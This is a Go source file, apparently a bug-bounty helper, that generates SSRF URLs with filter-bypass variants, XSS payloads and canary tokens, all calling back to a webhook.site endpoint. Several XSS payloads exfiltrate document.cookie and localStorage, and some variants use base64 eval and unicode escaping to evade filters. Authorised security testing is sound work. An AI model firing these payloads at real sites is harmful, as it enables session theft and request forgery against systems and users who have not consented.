// Package bounty generates out-of-band security test payloads pointed at
// a webhook.site endpoint and inspects the callbacks they trigger: SSRF
// URLs, XSS callbacks, canary tokens, and link extraction from captured
// traffic.
package bounty

import (
	"encoding/base64"
	"fmt"
	"net/url"
	"strings"
)

// PayloadSet maps payload names to their injectable values.
type PayloadSet map[string]string

// SSRFOptions selects which SSRF payload families to generate.
type SSRFOptions struct {
	// Identifier tags payloads so the triggering injection point can be
	// told apart in callbacks.
	Identifier string
	IncludeDNS bool
	IncludeIP  bool
}

// SSRFPayloads builds URL and hostname payloads for server-side request
// forgery testing. Pure function, no I/O.
func SSRFPayloads(token string, opts SSRFOptions) PayloadSet {
	idParam := ""
	if opts.Identifier != "" {
		idParam = "?id=" + opts.Identifier
	}
	idSubdomain := ""
	if opts.Identifier != "" {
		idSubdomain = opts.Identifier + "."
	}

	payloads := PayloadSet{
		"http_url":      fmt.Sprintf("http://webhook.site/%s%s", token, idParam),
		"https_url":     fmt.Sprintf("https://webhook.site/%s%s", token, idParam),
		"subdomain_url": fmt.Sprintf("https://%s.webhook.site%s", token, idParam),
	}

	if opts.IncludeDNS {
		payloads["dns_payload"] = fmt.Sprintf("%s%s.dnshook.site", idSubdomain, token)
		payloads["dns_with_data"] = fmt.Sprintf("ssrf.%s%s.dnshook.site", idSubdomain, token)
	}

	if opts.IncludeIP {
		// Bypass variants for filters that only block literal loopback
		// addresses or unencoded URLs.
		payloads["localhost_bypass"] = fmt.Sprintf("http://127.0.0.1.nip.io/%s%s", token, idParam)
		payloads["decimal_ip"] = fmt.Sprintf("http://2130706433/%s%s", token, idParam) // 127.0.0.1 in decimal
		encoded := url.QueryEscape(fmt.Sprintf("https://webhook.site/%s%s", token, idParam))
		payloads["url_encoded"] = encoded
		payloads["double_encoded"] = url.QueryEscape(url.QueryEscape("https://webhook.site/" + token))
	}

	payloads["at_bypass"] = fmt.Sprintf("https://evil.com@webhook.site/%s", token)
	payloads["hash_bypass"] = fmt.Sprintf("https://webhook.site/%s#@evil.com", token)
	payloads["redirect_chain"] = fmt.Sprintf("https://webhook.site/%s?redirect=true", token)

	return payloads
}

// SSRFUsageTips explain how to deploy the generated SSRF payloads.
var SSRFUsageTips = []string{
	"Inject these URLs in parameters, headers, file imports, etc.",
	"DNS payloads can detect SSRF even when HTTP response is blocked",
	"Use check_for_callbacks to see if any payload triggered",
	"The identifier helps track which injection point worked",
}

// XSSOptions selects which XSS payload families to generate.
type XSSOptions struct {
	Identifier     string
	IncludeCookies bool
	IncludeDOM     bool
}

// XSSPayloads builds cross-site-scripting payloads that call back to the
// endpoint when executed. Pure function, no I/O.
func XSSPayloads(token string, opts XSSOptions) PayloadSet {
	callbackURL := "https://webhook.site/" + token
	idPart := ""
	if opts.Identifier != "" {
		idPart = "&id=" + opts.Identifier
	}

	payloads := PayloadSet{
		"basic_img":    fmt.Sprintf(`<img src="%s?xss=1%s">`, callbackURL, idPart),
		"basic_script": fmt.Sprintf(`<script>fetch("%s?xss=1%s")</script>`, callbackURL, idPart),
	}

	if opts.IncludeCookies {
		payloads["cookie_steal"] = fmt.Sprintf(`<script>fetch("%s?c="+document.cookie)</script>`, callbackURL)
		payloads["cookie_img"] = fmt.Sprintf(`<img src=x onerror="this.src='%s?c='+document.cookie">`, callbackURL)
	}

	if opts.IncludeDOM {
		payloads["dom_info"] = fmt.Sprintf(`<script>fetch("%s?url="+encodeURIComponent(location.href)+"&ref="+encodeURIComponent(document.referrer)%s)</script>`, callbackURL, idPart)
		payloads["full_capture"] = fmt.Sprintf(`<script>fetch("%s",{method:"POST",body:JSON.stringify({url:location.href,cookies:document.cookie,localStorage:JSON.stringify(localStorage)})})</script>`, callbackURL)
	}

	payloads["onerror"] = fmt.Sprintf(`<img src=x onerror="fetch('%s?xss=onerror%s')">`, callbackURL, idPart)
	payloads["onload"] = fmt.Sprintf(`<body onload="fetch('%s?xss=onload%s')">`, callbackURL, idPart)
	payloads["svg"] = fmt.Sprintf(`<svg onload="fetch('%s?xss=svg%s')">`, callbackURL, idPart)

	b64Call := fmt.Sprintf("fetch('%s?xss=b64%s')", callbackURL, idPart)
	payloads["base64"] = fmt.Sprintf(`<script>eval(atob("%s"))</script>`, base64.StdEncoding.EncodeToString([]byte(b64Call)))
	payloads["unicode"] = unicodeEscape(fmt.Sprintf(`<script>fetch("%s?xss=uni%s")</script>`, callbackURL, idPart))

	return payloads
}

// XSSUsageTips explain how to deploy the generated XSS payloads.
var XSSUsageTips = []string{
	"Try each payload in input fields, URL params, headers",
	"Cookie stealing payloads may be blocked by HttpOnly flag",
	"Use check_for_callbacks to see if XSS was triggered",
	"SVG and onerror variants bypass some filters",
}

// unicodeEscape converts non-ASCII runes plus the characters commonly
// stripped by XSS filters into \uXXXX escapes.
func unicodeEscape(s string) string {
	var b strings.Builder
	for _, r := range s {
		if r > 127 || r == '<' || r == '>' || r == '"' {
			fmt.Fprintf(&b, `\u%04x`, r)
		} else {
			b.WriteRune(r)
		}
	}
	return b.String()
}

// Canary token types.
const (
	CanaryURL   = "url"
	CanaryDNS   = "dns"
	CanaryEmail = "email"
)

// Canary is a generated canary token plus deployment instructions.
type Canary struct {
	Type         string            `json:"type"`
	Values       map[string]string `json:"canary"`
	Instructions []string          `json:"instructions"`
}

// CanaryToken builds a tripwire value whose access is observable at the
// endpoint. tokenType is url, dns, or email. Pure function, no I/O.
func CanaryToken(token, tokenType, identifier string) (*Canary, error) {
	idPart := "?canary=triggered"
	if identifier != "" {
		idPart = "?canary=" + identifier
	}
	idSubdomain := "canary."
	if identifier != "" {
		idSubdomain = identifier + "."
	}

	canary := &Canary{Type: tokenType, Values: map[string]string{}}
	switch tokenType {
	case CanaryURL:
		canary.Values["token"] = fmt.Sprintf("https://webhook.site/%s%s", token, idPart)
		canary.Values["short_url"] = fmt.Sprintf("https://%s.webhook.site%s", token, idPart)
		canary.Instructions = []string{
			"Embed this URL in documents, source code, or configs",
			"When accessed, you'll get an alert with IP and user-agent",
			"Use in: HTML links, README files, config values, PDF links",
		}
	case CanaryDNS:
		canary.Values["token"] = fmt.Sprintf("%s%s.dnshook.site", idSubdomain, token)
		canary.Values["nslookup_command"] = fmt.Sprintf("nslookup %s%s.dnshook.site", idSubdomain, token)
		canary.Instructions = []string{
			"Any DNS lookup to this domain will be captured",
			"Useful for detecting data exfiltration attempts",
			"Embed in hostnames, SSRF payloads, or config files",
		}
	case CanaryEmail:
		canary.Values["token"] = fmt.Sprintf("%s@email.webhook.site", token)
		canary.Values["display_format"] = fmt.Sprintf("Confidential <%s@email.webhook.site>", token)
		canary.Instructions = []string{
			"Any email to this address will be captured",
			"Use as a fake 'internal' contact in leaked documents",
			"Good for testing if credentials/docs were accessed",
		}
	default:
		return nil, fmt.Errorf("unknown canary type %q: must be url, dns, or email", tokenType)
	}
	return canary, nil
}
